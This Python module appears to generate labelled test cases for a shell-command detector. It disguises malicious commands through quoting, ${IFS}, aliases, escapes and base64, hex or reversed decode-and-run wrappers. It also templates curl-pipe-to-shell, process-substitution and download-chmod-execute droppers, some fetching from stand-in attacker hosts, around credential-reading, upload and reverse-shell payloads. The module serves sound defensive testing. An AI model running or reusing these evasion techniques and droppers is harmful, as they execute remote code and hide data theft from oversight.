"""Family: shell obfuscation. The same malicious command, hidden from a string match.

Word-level disguises (quotes, backslashes, variables split and joined, ${IFS}, alias,
printf/echo -e/$'..' escapes) change only how the words are spelt, so the right rule is
the one the plain command deserves. Wrappers that decode a literal payload and run it
(base64, xxd, rev, here-strings, heredocs, eval, source /dev/stdin) are obfuscated
execution *and* whatever the decoded command does. Running downloaded content
(curl | sh, bash <(curl ...)) and piping a payload nobody can decode statically into an
interpreter are obfuscated execution.

Every transform produces a command bash really runs the same way; the unit tests run
them through bash on a harmless payload to prove it.
"""

import re

from . import expect as E
from . import payloads as P
from .world import b64, hexlify

# ----- word-level transforms ---------------------------------------------------------


def quote_word(w, word):
    if len(word) < 2:
        return "'" + word + "'"
    i = w.randint(1, len(word) - 1)
    form = w.randint(0, 4)
    if form == 0:
        return word[:i] + "'" + word[i:] + "'" if w.chance(0.5) else word[:i] + "''" + word[i:]
    if form == 1:
        return '"' + word[:i] + '"' + word[i:]
    if form == 2:
        return word[:i] + '""' + word[i:]
    if form == 3:
        return "'" + word[:i] + "'" + '"' + word[i:] + '"'
    return "".join(c + ("''" if j % 2 == 0 and j < len(word) - 1 else "") for j, c in enumerate(word))


def backslash_word(w, word):
    form = w.randint(0, 2)
    if form == 0:
        return "".join("\\" + c if c.isalnum() else c for c in word)
    if form == 1:
        i = w.randint(1, max(1, len(word) - 1))
        return word[:i] + "\\" + word[i:]
    return "".join("\\" + c if (c.isalnum() and w.chance(0.5)) else c for c in word)


def _cut(w, word):
    if len(word) < 2:
        return [word]
    if len(word) >= 4 and w.chance(0.4):
        i = w.randint(1, len(word) - 3)
        j = w.randint(i + 1, len(word) - 1)
        return [word[:i], word[i:j], word[j:]]
    i = w.randint(1, len(word) - 1)
    return [word[:i], word[i:]]


def var_split(w, template):
    """a=cu;b=rl;$a$b ... : every marked word rebuilt from variables set first."""
    words = P.marked_words(template)
    names = w.idents(sum(3 for _ in words))
    assigns, k = [], 0
    rebuilt = {}
    for word in words:
        parts = _cut(w, word)
        refs = []
        for part in parts:
            n = names[k]
            k += 1
            assigns.append(f"{n}={part}" if re.fullmatch(r"[A-Za-z0-9_./-]+", part) else f"{n}='{part}'")
            refs.append("${" + n + "}" if w.chance(0.5) else "$" + n)
        # $a$b is fine, but $ab would read a different variable: brace any ref followed by a name char.
        joined = ""
        for i, ref in enumerate(refs):
            if ref.startswith("$") and not ref.startswith("${") and i + 1 < len(refs):
                ref = "${" + ref[1:] + "}"
            joined += ref
        rebuilt[word] = joined
    sep = w.choice([";", "; ", "\n", " && "]) if w.chance(0.8) else ";"
    body = P.MARK.sub(lambda m: rebuilt[m.group(1)], template)
    if " && " == sep:
        return " && ".join(assigns) + " && " + body
    return sep.join(assigns) + sep + body


def ifs_split(w, template):
    """Spaces outside quotes become ${IFS} or $IFS (when the next char cannot extend the name)."""
    text = P.plain(template)
    out, quote = [], None
    for i, ch in enumerate(text):
        if quote:
            out.append(ch)
            if ch == quote:
                quote = None
            continue
        if ch in "'\"":
            quote = ch
            out.append(ch)
            continue
        if ch == " ":
            nxt = text[i + 1] if i + 1 < len(text) else ""
            if (nxt.isalnum() or nxt == "_") or w.chance(0.6):
                out.append("${IFS}")
            else:
                out.append("$IFS")
            continue
        out.append(ch)
    return "".join(out)


CMD_POS = re.compile(r"(^|[|;&]\s*)«([^»]*)»")


def alias_word(w, template):
    """alias k='curl' (on its own line: bash reads a line before it expands aliases)."""
    m = CMD_POS.search(template)
    first = m.group(2)
    name = w.choice(["k", "x", "run", "ll2", "g", "u", "cc", "z", "q1", "doit"])
    body = template[:m.start(2) - 1] + name + template[m.end(2) + 1:]
    lead = w.choice(["shopt -s expand_aliases\n", "shopt -s expand_aliases; true\n"])
    return f"{lead}alias {name}='{first}'\n{P.plain(body)}"


def _hex_escapes(word, style):
    if style == "x":
        return "".join(f"\\x{ord(c):02x}" for c in word)
    if style == "0o":  # echo -e wants \0NNN for octal
        return "".join(f"\\0{ord(c):03o}" for c in word)
    return "".join(f"\\{ord(c):03o}" for c in word)


def printf_word(w, word):
    form = w.randint(0, 3)
    if form == 0:
        return f"$(printf '{_hex_escapes(word, 'x')}')"
    if form == 1:
        return f"$(printf '{_hex_escapes(word, 'o')}')"
    if form == 2:
        return f"$(echo -e '{_hex_escapes(word, w.choice(['x', '0o']))}')"
    return "$'" + _hex_escapes(word, w.choice(["x", "o"])) + "'"


def per_word(w, template, fn, all_words=None):
    """Apply fn to the first marked word and (usually) some of the others."""
    words = P.marked_words(template)
    idx = [0]
    chosen = {0}
    for i in range(1, len(words)):
        if all_words or w.chance(0.6):
            chosen.add(i)

    def sub(m):
        i = idx[0]
        idx[0] += 1
        return fn(w, m.group(1)) if i in chosen else m.group(1)

    return P.MARK.sub(sub, template)


# ----- decode-and-run wrappers ----------------------------------------------------------


def _sq(cmd):
    return "'" + cmd.replace("'", "'\"'\"'") + "'"


def _dq(cmd):
    return '"' + cmd.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("`", "\\`") + '"'


BASHISMS = ("<<<", "$'", "<(", ">&", "&>", "/dev/tcp", "/dev/udp", "${IFS}", "shopt", "\\x", "echo -e")


def _sh(w, cmd, pool):
    """A shell from `pool` that can run `cmd`: dash (sh on Debian) lacks bash's syntax."""
    if any(b in cmd for b in BASHISMS):
        pool = [p for p in pool if "bash" in p] or ["bash"]
    return w.choice(pool)


def base64_run(w, cmd):
    e = b64(cmd)
    sh = _sh(w, cmd, ["sh", "bash", "/bin/sh", "/bin/bash", "bash -s"])
    dec = w.choice(["base64 -d", "base64 --decode", "base64 -di", "openssl base64 -d -A"])
    return w.choice([
        f"echo {e} | {dec} | {sh}",
        f"echo '{e}'|{dec}|{sh}",
        f"{sh.split()[0]} -c \"$(echo {e} | {dec})\"",
        f"{dec} <<< {e} | {sh}",
        f"printf %s {e} | {dec} | {sh}",
        f"{sh.split()[0]} -c \"$({dec} <<<'{e}')\"",
    ])


def xxd_run(w, cmd):
    e = hexlify(cmd)
    sh = _sh(w, cmd, ["sh", "bash", "/bin/bash"])
    return w.choice([
        f"echo {e} | xxd -r -p | {sh}",
        f"xxd -r -p <<< {e} | {sh}",
        f"{sh} -c \"$(echo {e} | xxd -r -p)\"",
        f"echo '{e}' | xxd -p -r | {sh}",
    ])


def rev_run(w, cmd):
    r = cmd[::-1]
    sh = _sh(w, cmd, ["sh", "bash", "/bin/sh"])
    return w.choice([
        f"echo {_sq(r)} | rev | {sh}",
        f"rev <<< {_sq(r)} | {sh}",
        f"{sh} -c \"$(rev <<< {_sq(r)})\"",
        f"printf '%s\\n' {_sq(r)} | rev | {sh}",
    ])


def here_string_run(w, cmd):
    sh = _sh(w, cmd, ["bash", "sh", "bash -s", "/bin/bash"])
    form = w.randint(0, 2)
    if form == 0:
        return f"{sh} <<< {_sq(cmd)}"
    if form == 1:
        return f"{sh} <<< {_dq(cmd)}"
    return f"python3 <<< {_sq('import subprocess; subprocess.run([' + repr('bash') + ', ' + repr('-c') + ', ' + repr(cmd) + '])')}"


def heredoc_run(w, cmd):
    tag = w.choice(["EOF", "SH", "X", "END", "__RUN__", "PAYLOAD"])
    form = w.randint(0, 3)
    if form == 0:
        return f"bash <<'{tag}'\n{cmd}\n{tag}"
    if form == 1:
        return f"{_sh(w, cmd, ['sh', 'bash'])} -s <<'{tag}'\n{cmd}\n{tag}"
    if form == 2:
        return f"cat <<'{tag}' | bash\n{cmd}\n{tag}"
    return f"python3 - <<'{tag}'\nimport subprocess\nsubprocess.run(['bash', '-c', {cmd!r}])\n{tag}"


def eval_run(w, cmd):
    form = w.randint(0, 3)
    if form == 0:
        return f"eval \"$(echo {b64(cmd)} | base64 -d)\""
    if form == 1:
        return f"eval \"$(rev <<< {_sq(cmd[::-1])})\""
    if form == 2:
        return f"eval \"$(echo {hexlify(cmd)} | xxd -r -p)\""
    return f"eval $(echo {b64(cmd)} | base64 --decode)"


def source_stdin_run(w, cmd):
    form = w.randint(0, 3)
    if form == 0:
        return f"echo {b64(cmd)} | base64 -d | source /dev/stdin"
    if form == 1:
        return f"source <(echo {b64(cmd)} | base64 -d)"
    if form == 2:
        return f". /dev/stdin <<< \"$(echo {b64(cmd)} | base64 -d)\""
    return f"echo {hexlify(cmd)} | xxd -r -p | . /dev/stdin"


DECODE_WRAPPERS = {
    "base64_pipe_sh": base64_run,
    "xxd_hex": xxd_run,
    "rev": rev_run,
    "here_string": here_string_run,
    "heredoc": heredoc_run,
    "eval_subst": eval_run,
    "source_stdin": source_stdin_run,
}


def nested_run(w, cmd, depth=None):
    """Two or three decode wrappers inside each other (base64 of rev of xxd ...)."""
    depth = depth or w.randint(2, 3)
    layers = ["base64_pipe_sh", "xxd_hex", "rev", "eval_subst", "base64_pipe_sh"]
    for _ in range(depth):
        cmd = DECODE_WRAPPERS[w.choice(layers)](w, cmd)
    return cmd


def stacked_run(w, template):
    """A word-level disguise, then the result encoded and run (disguise inside the decode)."""
    name = w.choice(["quotes_in_words", "backslashes", "var_split_join", "printf_escapes"])
    inner = WORD_TECHNIQUES[name](w, template)
    return DECODE_WRAPPERS[w.choice(["base64_pipe_sh", "xxd_hex", "rev", "eval_subst"])](w, inner), name


# ----- remote and undecodable ---------------------------------------------------------------

def remote_url(w):
    host, bad = w.egress_host(bad_share=0.25, ip_share=0.25)
    name = w.choice(["install.sh", "i.sh", "setup", "s", "x", "bootstrap.sh", "stage2", "update.sh", "init", "a.sh"])
    if w.chance(0.3):
        host = f"get.{w.word()}-cli.{w.choice(['dev', 'io', 'sh', 'app'])}"
        bad = False
    port = f":{w.port()}" if (host[0].isdigit() and w.chance(0.5)) else ""
    return f"{w.choice(['https', 'http'])}://{host}{port}/{name}", bad


def procsub_run(w):
    u, bad = remote_url(w)
    return w.choice([f"bash <(curl -fsSL {u})", f"sh <(wget -qO- {u})", f"source <(curl -s {u})",
                     f". <(curl -sL {u})", f"bash -c \"$(curl -fsSL {u})\"", f"zsh <(curl -s {u})"]), bad


def curl_sh(w):
    u, bad = remote_url(w)
    return w.choice([f"curl -fsSL {u} | sh", f"curl -s {u} | bash", f"wget -qO- {u} | sh",
                     f"curl -sk {u} | sudo bash -s -- --yes", f"curl -s {u} | python3 -",
                     f"wget -q -O - {u} | bash -s", f"curl {u} -o- | /bin/sh", f"curl -fsSL {u} | sh -s -- -y"]), bad


def eval_remote(w):
    u, bad = remote_url(w)
    return w.choice([f"eval \"$(curl -fsSL {u})\"", f"curl -s {u} | source /dev/stdin",
                     f"eval \"$(wget -qO- {u})\"", f"wget -qO- {u} | . /dev/stdin"]), bad


def dropper(w):
    u, bad = remote_url(w)
    f = w.choice(["/tmp/.x", f"/tmp/.{w.label()}", "/dev/shm/k", f"/var/tmp/{w.label()}", "./.cache/upd", "$HOME/.local/bin/helper"])
    return w.choice([
        f"curl -so {f} {u} && chmod +x {f} && {f}",
        f"wget -qO {f} {u}; chmod 755 {f}; {f} &",
        f"curl -fsSL {u} -o {f} && bash {f}",
        f"curl -s {u} > {f}; sh {f}; rm -f {f}",
        f"python3 <(curl -s {u})",
        f"curl -sL {u} | tar xz -C /tmp && /tmp/{w.label()}/run",
        f"wget -q {u} -O- > {f} && chmod u+x {f} && nohup {f} >/dev/null 2>&1 &",
    ]), bad


def undecodable(w):
    f = w.choice([f"/tmp/.{w.label()}", f"/var/tmp/.cache-{w.label()}", f"/dev/shm/.{w.label()}", f".git/{w.label()}.pack"])
    k = w.token(16)
    blob = b64(w.token(60)) if w.chance(0.5) else w.token(80)
    return w.choice([
        f"openssl enc -d -aes-256-cbc -pbkdf2 -k {k} -in {f} | sh",
        f"cat {f} | base64 -d | bash",
        f"gpg --batch --passphrase {k} -d {f} 2>/dev/null | bash",
        f"python3 -c \"import sys,base64;exec(bytes(a^b for a,b in zip(base64.b64decode(open('{f}').read()),b'{k}'*99)))\"",
        f"base64 -d {f} | gunzip | sh",
        f"echo \"$PAYLOAD_{w.label().upper()}\" | base64 -d | bash",
        f"openssl enc -d -aes-128-ctr -K {w.hexstr(32)} -iv {w.hexstr(32)} -a <<< '{blob}' | sh",
        f"curl -s https://{w.attacker_domain()}/blob | openssl enc -d -aes-256-cbc -pbkdf2 -k {k} | bash",
    ])


# ----- the family -----------------------------------------------------------------------------

WORD_TECHNIQUES = {
    "quotes_in_words": lambda w, t: per_word(w, t, quote_word),
    "backslashes": lambda w, t: per_word(w, t, backslash_word),
    "var_split_join": var_split,
    "ifs_separators": ifs_split,
    "alias": alias_word,
    "printf_escapes": lambda w, t: per_word(w, t, printf_word, all_words=False),
}

# Inner payloads whose text is safe to pass through each transform (no quotes for IFS).
IFS_SAFE = ["upload", "upload_wget", "cred_read", "revshell_bash", "tar_upload"]
# Inner payloads with a marked word in command position (alias needs one).
ALIAS_OK = ["upload", "upload_wget", "cred_read", "revshell_bash", "revshell_nc", "tar_upload"]


def _word(name):
    def make(w, i):
        kind = None
        if name == "ifs_separators":
            kind = w.choice(IFS_SAFE)
        elif name == "alias":
            kind = w.choice(ALIAS_OK)
        inn = P.inner(w, kind)
        if name == "ifs_separators" and "'" in inn["cmd"]:
            inn = P.inner(w, "cred_read")
        cmd = WORD_TECHNIQUES[name](w, inn["template"])
        return {"steps": [cmd], "expect": inn["expect"], "variant": inn["kind"]}
    return make


def _decoded(name):
    def make(w, i):
        inn = P.inner(w)
        cmd = DECODE_WRAPPERS[name](w, inn["cmd"])
        ex = inn["expect"] if name in ("here_string", "heredoc") else E.decoded(inn["expect"])
        return {"steps": [cmd], "expect": ex, "variant": inn["kind"]}
    return make


def _nested(w, i):
    inn = P.inner(w)
    return {"steps": [nested_run(w, inn["cmd"])], "expect": E.decoded(inn["expect"]), "variant": inn["kind"]}


def _stacked(w, i):
    inn = P.inner(w)
    cmd, name = stacked_run(w, inn["template"])
    return {"steps": [cmd], "expect": E.decoded(inn["expect"]), "variant": f"{name}/{inn['kind']}"}


def _remote(fn, variant):
    def make(w, i):
        cmd, bad = fn(w)
        ex = [E.group("CMD-TRACE-001")]
        return {"steps": [cmd], "expect": ex, "variant": variant + ("/known-bad-host" if bad else "")}
    return make


def _eval_any(w, i):
    if w.chance(0.5):
        return _decoded("eval_subst")(w, i)
    return _remote(eval_remote, "eval-remote")(w, i)


def _source_any(w, i):
    if w.chance(0.5):
        return _decoded("source_stdin")(w, i)
    cmd, bad = eval_remote(w)
    return {"steps": [cmd], "expect": E.OBFUSCATED, "variant": "remote"}


TECHNIQUES = [
    ("quotes_in_words", _word("quotes_in_words")),
    ("backslashes", _word("backslashes")),
    ("var_split_join", _word("var_split_join")),
    ("ifs_separators", _word("ifs_separators")),
    ("alias", _word("alias")),
    ("printf_escapes", _word("printf_escapes")),
    ("base64_pipe_sh", _decoded("base64_pipe_sh")),
    ("xxd_hex", _decoded("xxd_hex")),
    ("rev", _decoded("rev")),
    ("here_string", _decoded("here_string")),
    ("heredoc", _decoded("heredoc")),
    ("eval_subst", _eval_any),
    ("source_stdin", _source_any),
    ("bash_procsub_curl", _remote(procsub_run, "procsub")),
    ("curl_pipe_sh", _remote(curl_sh, "pipe")),
    ("download_chmod_exec", _remote(dropper, "dropper")),
    ("nested_decoding", _nested),
    ("disguise_inside_decoding", _stacked),
    ("undecodable_to_interpreter", lambda w, i: {"steps": [undecodable(w)], "expect": E.OBFUSCATED, "variant": "undecodable"}),
]
FAMILY = "shell_obfuscation"
PER_TECHNIQUE = 4
